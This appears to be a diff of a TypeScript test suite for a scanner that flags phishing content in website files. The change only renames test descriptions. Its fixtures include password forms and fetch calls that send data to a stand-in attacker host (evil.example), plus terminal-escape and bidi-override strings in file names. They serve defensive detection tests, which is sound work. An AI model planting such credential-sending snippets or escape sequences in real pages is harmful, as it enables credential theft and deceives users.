@@ -5,12 +5,12 @@ import { readTemplate, templateNames } from './templates.ts';
 
 const form = '<form action="https://evil.example/"><input type="password"></form>';
 
-describe('what is flagged', () => {
+describe('flagged content', () => {
   test.each(bad)('%s: %s', async (kind, _name, page) => {
     expect((await scan({ 'index.html': page })).kinds).toEqual([`index.html ${kind}`]);
   });
 
-  test('a script of the site that a page with a password field names, and one that speaks of passwords itself', async () => {
+  test('password scripts of the site are flagged', async () => {
     const sends = 'fetch("https://evil.example/")';
     const files = { 'in/index.html': '<input type="password"><script src="../a%20b.js"></script>', 'a b.js': sends };
     expect((await scan(files)).kinds).toEqual(['in/index.html password_sent']);
@@ -18,7 +18,7 @@ describe('what is flagged', () => {
     expect((await scan({ 'x.js': 'location.replace("https://evil.example/")' })).kinds).toEqual(['x.js redirect']);
   });
 
-  test('what stands behind 10 MB of nothing, in broken bytes, or in UTF-16', async () => {
+  test('content after 10 MB, in invalid bytes or UTF-16 is flagged', async () => {
     const broken = Buffer.concat([Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0]), Buffer.from(form)]);
     const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(form, 'utf16le')]);
     const far = `<p>${'x'.repeat(9_000_000)}</p>${'<br>'.repeat(250_000)}${form}`;
@@ -32,11 +32,11 @@ describe('what is flagged', () => {
     ]);
   }, 30_000);
 
-  test('a page that is nested too deep to be read says so', async () => {
+  test('a page too deep to read says so', async () => {
     expect((await scan({ 'd.html': `${'<b>'.repeat(200_000)}${form}` })).kinds).toEqual(['d.html unread']);
   });
 
-  test('an address on the border between two pieces of a script', async () => {
+  test('an address on the border of two script pieces is flagged', async () => {
     for (const before of [262_100, 262_130, 262_144, 262_150]) {
       const script = `${' '.repeat(before)}password;fetch("https://evil.example/")`;
       expect((await scan({ 's.js': script })).kinds).toEqual(['s.js password_sent']);
@@ -44,7 +44,7 @@ describe('what is flagged', () => {
   });
 });
 
-describe('what is not', () => {
+describe('harmless content', () => {
   test.each(good)('%s', async (_name, page) => {
     expect((await scan({ 'index.html': page })).found).toEqual([]);
   });
@@ -53,18 +53,18 @@ describe('what is not', () => {
     expect((await scan(await readTemplate(name))).found).toEqual([]);
   });
 
-  test('files that were scanned before are not read again', async () => {
+  test('scanned files are not read again', async () => {
     const files = { 'a.html': form, 'b.html': form, 'c.png': 'x', 'd.css': 'x' };
     const { reads, whole } = await scan({ ...files, 'e.html': 'new' }, { before: [files] });
     expect([reads, whole]).toEqual([['e.html'], true]);
   });
 });
 
-test('a path that is no text stops no scan', async () => {
+test('a binary path stops no scan', async () => {
   expect((await scan({ '\ud800%.html': form, 'z.html': form })).found).toHaveLength(2);
 });
 
-test('an excerpt is short, one line, and turns no terminal around', async () => {
+test('an excerpt is one short line without control characters', async () => {
   const action = `https://evil.example/\u202e\u001b[2J${'x'.repeat(5_000)}\n`;
   const { found } = await scan({
     '\u001b]0;x\u0007\u202e.html': `<form action="${action}"><input type="password"></form>`,
@@ -73,7 +73,7 @@ test('an excerpt is short, one line, and turns no terminal around', async () => 
   expect(found.map(({ excerpt }) => excerpt.length)).toEqual([200]);
 });
 
-test('hostile text takes a scan no longer than its size does', async () => {
+test('scan time depends only on size, also for hostile text', async () => {
   const mb = 1_000_000;
   const texts = [
     'location=a;{'.repeat(mb / 12),
